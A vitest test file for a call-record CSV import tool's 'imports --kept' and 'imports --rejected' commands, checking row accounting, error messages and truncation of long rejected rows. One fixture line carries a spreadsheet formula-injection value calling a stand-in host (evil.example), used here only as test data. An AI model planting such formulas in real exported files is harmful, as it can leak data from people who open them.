// An auditor accounts for every row of an import from the command line: read = used + kept +
// rejected. `imports --rejected` lists the rejected ones; `imports --kept` the kept ones — also a
// kept row that belongs to no call, which `show` cannot reach.
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { csv, inboundRows, manyCalls, tempDir, writeFile } from './fixtures';
import { runCli } from '../common/run-cli';

const run = (...args: string[]) => runCli(args);

/** Three calls, a row of an unknown event type for a call of its own (kept), and a row too short (rejected). */
async function archiveWithKeptAndRejected(): Promise<{ db: string }> {
  const dir = tempDir();
  const db = join(dir, 'k.db');
  const lines = csv(manyCalls(3).flatMap(inboundRows)).trimEnd().split('\n');
  lines.push('9999,99,1,Z,2026-03-01 10:00:00,5,,,4520000000,70201020,,,,,,77777,2026-03-01 10:05:00');
  lines.push(`8888,98,1,i,not-a-date,5,,,=HYPERLINK("http://evil.example/?a=${'x'.repeat(80)}"),70201020`);
  const file = writeFile(dir, 'mixed.csv', lines.join('\n') + '\n');
  const r = await run('import', file, '--db', db);
  expect(r.stderr).toMatch(/= \d+ used \+ 1 kept \+ 1 rejected;/);
  return { db };
}

describe('imports --kept', () => {
  it("lists an import's kept rows with file, line, table and reason, a row of no call included", async () => {
    const { db } = await archiveWithKeptAndRejected();
    expect((await run('show', '9999', '--db', db)).status).toBe(1);
    const listed = await run('imports', '--db', db, '--kept', '1');
    expect(listed.status).toBe(0);
    expect(listed.stdout).toMatch(/mixed\.csv\s+14\s+call_events\s+.*unknown event_type "Z"/);
    const json = JSON.parse((await run('imports', '--db', db, '--kept', '1', '--json')).stdout) as unknown[];
    expect(json).toEqual([
      expect.objectContaining({ importId: 1, origin: { file: 'mixed.csv', line: 14 }, table: 'call_events' }),
    ]);
  });

  it('an import that is not there is said', async () => {
    const { db } = await archiveWithKeptAndRejected();
    const none = await run('imports', '--db', db, '--kept', '7');
    expect(none.stderr).toBe(`callscope imports: no import #7 in ${db} (callscope imports lists them)\n`);
    expect(none.status).toBe(1);
  });
});

describe('imports --rejected', () => {
  it('says where it cut a long raw text, and --json has it whole', async () => {
    const { db } = await archiveWithKeptAndRejected();
    const listed = await run('imports', '--db', db, '--rejected', '1');
    const row = listed.stdout.split('\n').find((l) => l.includes('not-a-date'))!;
    expect(row.trimEnd()).toMatch(/…$/);
    const [whole] = JSON.parse((await run('imports', '--db', db, '--rejected', '1', '--json')).stdout) as {
      raw: string;
    }[];
    expect(whole!.raw).toContain('x'.repeat(80));
  });
});
